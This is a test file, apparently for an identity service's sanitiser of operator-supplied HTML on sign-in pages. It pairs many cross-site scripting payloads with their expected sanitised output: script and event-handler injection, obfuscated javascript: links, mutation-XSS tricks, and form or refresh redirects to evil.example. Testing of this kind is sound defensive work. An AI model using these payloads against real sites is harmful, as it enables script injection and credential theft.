import { describe, expect, it } from 'vitest'
import { DEFAULT_EXPERIENCE } from '../../../src/contract/experience/experience.ts'
import { sanitizeHtml, withSanitizedContent } from '../../../src/web/pages/custom-content.ts'
import { newOperator } from '../../kit/clients/management-client.ts'
import { openTestApp } from '../../kit/test-app.ts'

describe('an operator’s HTML', () => {
  it.each([
    '<h2 class="big">Welcome</h2><p lang="en">To <b>Example</b>.</p>',
    '<img src="https://cdn.example.com/a.png" alt="Our house" width="640" height="480">',
    '<img src="data:image/png;base64,iVBORw0KGgo=" alt="">',
    '<img src="/logo.svg" alt="">',
    '<picture><source media="(prefers-color-scheme: dark)" srcset="https://a.example/d.png, /l.png 2x"><img src="/l.png" alt=""></picture>',
    '<ul><li>One</li><li>Two</li></ul>',
    '<table><tbody><tr><td colspan="2">x</td></tr></tbody></table>',
    '<details open=""><summary>More</summary>Text &amp; more &copy; 2 &lt; 3</details>',
    '<a href="mailto:help@example.com">Write</a> <a href="/sign-in">Here</a>',
    'Grüße, 你好',
  ])('is kept if it is harmless: %s', async (html) => {
    expect(await sanitizeHtml(html)).toBe(html)
  })

  it.each([
    // Scripts
    { html: 'a<script>alert(1)</script>b', safe: 'ab' },
    { html: 'a<ScRiPt src=//evil.example></sCrIpT >b', safe: 'ab' },
    { html: '<script>alert(1)', safe: '' },
    { html: '<script/>alert(1)</script>b', safe: 'b' },
    { html: '<img src=x onerror=alert(1)>', safe: '<img>' },
    { html: '<img/src="/a.png"/onerror="alert(1)">', safe: '<img src="/a.png">' },
    { html: '<b onclick="alert(1)" OnMouseOver=alert(1)>x</b>', safe: '<b>x</b>' },
    { html: '<svg><script>alert(1)</script></svg>x', safe: 'x' },
    { html: '<svg onload=alert(1)/>x', safe: '' }, // The slash belongs to the unquoted value.
    { html: '<svg/><b>x</b>', safe: '<b>x</b>' },
    { html: '<math><mi xlink:href="javascript:alert(1)">x</mi></math>y', safe: 'y' },
    { html: '<math><annotation-xml encoding="text/html"><img src=x onerror=alert(1)></math>y', safe: 'y' },
    // Links that run code
    { html: '<a href="javascript:alert(1)">x</a>', safe: '<a>x</a>' },
    { html: '<a href=" &#106;avascript:alert(1)">x</a>', safe: '<a>x</a>' },
    { html: '<a href="java\tscript:alert(1)">x</a>', safe: '<a>x</a>' },
    { html: '<a href="javascript&colon;alert(1)">x</a>', safe: '<a>x</a>' },
    { html: '<a href="\u0001javascript:alert(1)">x</a>', safe: '<a>x</a>' },
    { html: '<a href="data:text/html,<script>alert(1)</script>">x</a>', safe: '<a>x</a>' },
    { html: '<a href="vbscript:x">x</a>', safe: '<a>x</a>' },
    { html: '<a href="blob:https://id.example/1">x</a>', safe: '<a>x</a>' },
    { html: '<a href="//evil.example">x</a>', safe: '<a>x</a>' },
    { html: '<a href="/\\evil.example">x</a>', safe: '<a>x</a>' },
    { html: '<img src="data:text/html,x">', safe: '<img>' },
    { html: '<img srcset="https://a.example/1.png 1x, javascript:alert(1) 2x">', safe: '<img>' },
    { html: '<img src="http://a.example/1.png">', safe: '<img>' },
    // Frames, forms, styles and elements that change the page around them
    { html: '<iframe srcdoc="<script>alert(1)</script>"></iframe>x', safe: 'x' },
    { html: '<object data=x><p>fallback</p></object><embed src=x>y', safe: 'y' },
    { html: '<form action=//evil.example><input name=password><button>Go</button></form>', safe: 'Go' },
    {
      html: '<meta http-equiv=refresh content="0;url=//evil.example"><base href=//evil.example/>x',
      safe: 'x',
    },
    { html: '<link rel=stylesheet href=//evil.example>x', safe: 'x' },
    { html: '<style>*{display:none}</style><p style="color:red">x</p>', safe: '<p>x</p>' },
    { html: '<html><head><title>x</title></head><body onload=alert(1)><main>y</main></body>', safe: 'y' },
    { html: '<textarea><script>alert(1)</script></textarea><select><option>x</select>y', safe: 'y' },
    { html: '<template><img src=x onerror=alert(1)></template>y', safe: 'y' },
    // Markup that other parsers interpret differently
    { html: '<noscript><p title="</noscript><img src=x onerror=alert(1)>">', safe: '<img>"&gt;' },
    { html: '<!--><img src=x onerror=alert(1)>-->', safe: '<img>--&gt;' },
    { html: 'a<!-- <b>c</b> --><!doctype html><![CDATA[d]]>e', safe: 'ae' },
    { html: '<xmp><img src=x onerror=alert(1)></xmp>y<plaintext>z', safe: 'y' },
    { html: '<title><img title="</title><img src=x onerror=alert(1)>">', safe: '<img>"&gt;' },
    {
      html: '<b title="</b><script>alert(1)</script>">x</b>',
      safe: '<b title="&lt;/b&gt;&lt;script&gt;alert(1)&lt;/script&gt;">x</b>',
    },
    { html: '<b title=\'"onclick="alert(1)\'>x</b>', safe: '<b title="&quot;onclick=&quot;alert(1)">x</b>' },
    { html: '&lt;script&gt;alert(1)&lt;/script&gt;', safe: '&lt;script&gt;alert(1)&lt;/script&gt;' },
    { html: '1 < 2 <3', safe: '1 &lt; 2 &lt;3' },
    // Markup that would break out of its container
    { html: '</div></div></main><p>x', safe: '<p>x' },
    { html: '<div><b>x', safe: '<div><b>x</b></div>' },
    { html: 'x<img src=x onerror=alert(1)', safe: 'x' },
    { html: '<p>one<p>two', safe: '<p>one<p>two' },
    { html: '<b>x<i>y</b>z</i>', safe: '<b>x<i>y</i></b>z' },
    { html: '<svg><b>x', safe: '' },
    // Ids and names that would clash with our own elements
    { html: '<p id=boot name=app>x</p>', safe: '<p id="custom-boot">x</p>' },
    { html: '<a href="#app" name=app>x</a>', safe: '<a href="#custom-app">x</a>' },
    // Links that would navigate the user away
    {
      html: '<a href="https://www.example.com" target=_top rel=opener ping=//evil.example>x</a>',
      safe: '<a href="https://www.example.com" target="_blank" rel="noopener">x</a>',
    },
    { html: '<a href="/help" target="_self">x</a>', safe: '<a href="/help">x</a>' },
  ])('[ASVS-1.3.1] is stripped of everything that could run code: $html', async ({ html, safe }) => {
    expect(await sanitizeHtml(html)).toBe(safe)
  })

  it('does not change if it is sanitised a second time', async () => {
    const html = '<p>one<p>two <b title="a&quot;b">&amp;amp;</b><a href="https://a.example/?a=1&b=2">x</a>'
    const once = await sanitizeHtml(html)
    expect(await sanitizeHtml(once)).toBe(once)
  })

  it('is kept even if it is long', async () => {
    const html = '<p class="row">Text</p>'.repeat(3_000)
    expect(await sanitizeHtml(html)).toBe(html)
  })

  it('is omitted if the parser cannot handle it, so that users can still sign in', async () => {
    const customContent = { '/sign-in': '<b>'.repeat(65_536 / 3), '/register': '<b>x</b>' }
    const safe = await withSanitizedContent({ ...DEFAULT_EXPERIENCE, ...computed, customContent })
    expect(safe.customContent).toEqual({ '/sign-in': '', '/register': '<b>x</b>' })
  })
})

const computed = { socialConnectors: [], forgotPassword: { email: false, phone: false } }

describe('the HTML that users receive', () => {
  const hostile = '<p id="boot">Hello</p><script>alert(1)</script><img src=x onerror=alert(1)>'

  it('is sanitised in the page, its boot data and the API, although it is stored as entered', async () => {
    const app = openTestApp()
    const operator = await newOperator(app)
    const changed = await operator.send('PATCH', '/sign-in-exp', {
      customContent: { '/unknown-session': hostile },
    })
    expect(await changed.json()).toMatchObject({ customContent: { '/unknown-session': hostile } })

    const safe = '<p id="custom-boot">Hello</p><img>'
    const answer = await app.fetch('/api/.well-known/sign-in-exp')
    expect(await answer.json()).toMatchObject({ customContent: { '/unknown-session': safe } })
    const page = await (await app.fetch('/unknown-session')).text()
    expect(page).toContain(`<aside class="vestibule-custom-content">${safe}</aside><main`)
    expect(page).toContain(JSON.stringify(safe).replaceAll('<', '\\u003c'))
    expect(page).not.toContain('alert(1)')
  })
})
